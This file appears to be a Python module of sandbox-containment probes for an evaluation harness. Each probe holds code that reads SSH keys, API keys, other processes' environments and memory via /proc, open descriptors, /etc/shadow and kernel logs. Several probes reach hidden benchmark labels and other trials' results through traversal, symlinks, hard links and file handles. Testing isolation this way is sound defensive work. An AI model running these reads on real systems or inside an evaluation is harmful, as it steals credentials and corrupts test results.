"""Attacks that read: secrets, environments, other processes, labels, other trials.

Each prints all that it gets; the secret in what it printed is the proof.
"""

from sandbox.probes.plants import (
    key_in_the_environment,
    key_in_the_home,
    open_descriptors,
    victim,
    warm_parent,
)
from sandbox.probes.scene import Probe

PROCESSES = """
for pid in [p for p in os.listdir("/proc") if p.isdigit()] + [str(F.get("victim", 1))]:
    {body}
"""


PROBES = (
    Probe(
        "home_secret",
        "a key in the user's home is read",
        'show(F["key"])\nattempt(lambda: print(os.listdir(os.path.dirname(F["key"]))))',
        plant=key_in_the_home,
        gets_out_uncontained=True,
    ),
    Probe(
        "planted_key",
        "a key beside the mounts is read by its path",
        'show(F["root"] + "/home/.ssh/id_ed25519")',
        gets_out_uncontained=True,
    ),
    Probe(
        "own_environment",
        "an API key of whoever started the trial is in its environment",
        "print(dict(os.environ))",
        plant=key_in_the_environment,
    ),
    Probe(
        "environment_of_the_first_process",
        "an API key is in the environment of the boundary's own process",
        'for pid in ("1", "2", "self", "thread-self", str(os.getppid())):\n'
        '    show(f"/proc/{pid}/environ")',
        plant=key_in_the_environment,
    ),
    Probe(
        "environment_of_others",
        "an API key is read from another process",
        PROCESSES.format(body='show(f"/proc/{pid}/environ")'),
        plant=victim,
        gets_out_uncontained=True,
    ),
    Probe(
        "command_lines_of_others",
        "what other processes were started with is read",
        PROCESSES.format(body='show(f"/proc/{pid}/cmdline")'),
        plant=victim,
        gets_out_uncontained=True,
    ),
    Probe(
        "memory_of_others",
        "another process's memory is read through /proc",
        """
def read(pid):
    for line in open(f"/proc/{pid}/maps"):
        if "[stack]" in line or "[heap]" in line:
            start, end = (int(n, 16) for n in line.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(max(start, end - (1 << 20)))
                found = memory.read(min(end - start, 1 << 20))
                begin = found.find(b"segwright-" + b"secret-")
                if begin >= 0:
                    print(found[begin:begin + 40])

attempt(read, F["victim"])
attempt(read, os.getppid())
""",
        plant=victim,
        gets_out_uncontained=True,
    ),
    Probe(
        "inherited_descriptor",
        "a file that was open in the parent is read through its descriptor",
        """
for number in range(3, 256):
    content = attempt(lambda: os.pread(number, 100, 0))
    if content:
        print(content)
""",
        plant=open_descriptors,
    ),
    Probe(
        "descriptors_of_others",
        "an open file of another process is opened through /proc",
        """
for pid in {F["runner"], os.getppid(), 1, 2}:
    for number in attempt(os.listdir, f"/proc/{pid}/fd") or ():
        path = f"/proc/{pid}/fd/{number}"
        status = attempt(os.stat, path)
        if status and stat.S_ISREG(status.st_mode):
            show(path)
""",
        plant=open_descriptors,
        gets_out_uncontained=True,
    ),
    Probe(
        "labels_by_path",
        "hidden labels are read where a campaign keeps them",
        """
for path in (F["labels"], place("/data") + "/../labels/case_1.npy",
             place("/out") + "/../labels/case_1.npy", "/labels/case_1.npy"):
    show(path)
""",
        gets_out_uncontained=True,
    ),
    Probe(
        "labels_by_process_root",
        "hidden labels are read through another process's root or working folder",
        PROCESSES.format(
            body='for name in ("root", "cwd"): show(f"/proc/{pid}/{name}" + F["labels"])'
        ),
        plant=victim,
        gets_out_uncontained=True,
    ),
    Probe(
        "labels_by_mountinfo",
        "where the mounts come from leads to the labels beside them",
        """
for line in open("/proc/self/mountinfo"):
    fields = line.split()
    for start in (fields[3], fields[4]):
        for up in ("..", "../..", "../../.."):
            show(os.path.join(start, up, "labels/case_1.npy"))
show(os.path.dirname(place("/data")) + "/labels/case_1.npy")
""",
    ),
    Probe(
        "labels_by_symbolic_link",
        "a link that the trial makes leads to the labels",
        """
link = place("/out") + "/link"
attempt(os.symlink, F["labels"], link)
show(link)
attempt(os.remove, link)
""",
        gets_out_uncontained=True,
    ),
    Probe(
        "labels_by_hard_link",
        "a hidden file is linked into what is handed back",
        'attempt(os.link, F["labels"], place("/out") + "/linked")',
        gets_out_uncontained=True,
    ),
    Probe(
        "labels_by_handle",
        "a hidden file is opened by its number, past all folders",
        """
handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
mount = ctypes.c_int()
path = place("/data").encode()
LIBC.name_to_handle_at(-100, path, handle, ctypes.byref(mount), 0)
folder = os.open(place("/data"), os.O_RDONLY)
found = LIBC.open_by_handle_at(folder, handle, os.O_RDONLY)
if found >= 0:
    escaped("a file was opened by its handle")
""",
    ),
    Probe(
        "names_of_others",
        "the names of hidden cases and other trials are listed",
        """
for path in (F["root"], os.path.dirname(F["labels"]), F["root"] + "/others",
             place("/data") + "/..", place("/out") + "/.."):
    names = attempt(os.listdir, path) or ()
    if {"labels", "others"} & set(names) or "case_1.npy" in names or "trial-1" in names:
        escaped(f"{path} lists {sorted(names)[:5]}")
""",
        gets_out_uncontained=True,
    ),
    Probe(
        "sizes_of_others",
        "the size of a hidden file is told, and with it what it may hold",
        """
for path in (F["labels"], F["root"] + "/campaign.db"):
    status = attempt(os.stat, path)
    if status:
        escaped(f"{path} has {status.st_size} bytes")
""",
        gets_out_uncontained=True,
    ),
    Probe(
        "other_trials",
        "another trial's results are read",
        'show(F["root"] + "/others/trial-1/result.json")\n'
        'show(place("/out") + "/../others/trial-1/result.json")',
        gets_out_uncontained=True,
    ),
    Probe(
        "campaign_database",
        "the campaign's database is read",
        'show(F["root"] + "/campaign.db")\nshow(place("/code") + "/../campaign.db")',
        gets_out_uncontained=True,
    ),
    Probe(
        "password_file",
        "the machine's password hashes can be opened",
        """
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
    if attempt(os.open, path, os.O_RDONLY) is not None:
        escaped(f"{path} was opened")
""",
    ),
    Probe(
        "kernel_log",
        "the kernel's messages are read",
        """
number = {"x86_64": 103, "aarch64": 116}[os.uname().machine]
if call(number, 10, None, 0)[0] >= 0:
    escaped("syslog answers")
for path in ("/dev/kmsg", "/proc/kmsg", "/proc/kcore"):
    if attempt(os.open, path, os.O_RDONLY | os.O_NONBLOCK) is not None:
        escaped(f"{path} was opened")
""",
    ),
    Probe(
        "connections_of_others",
        "the machine's open connections are listed",
        """
for name in ("tcp", "udp", "unix"):
    text = attempt(lambda: open("/proc/net/" + name).read()) or ""
    if F["beside"] in text:
        escaped("sockets of this machine are listed")
""",
        plant=warm_parent,
        gets_out_uncontained=True,
    ),
)
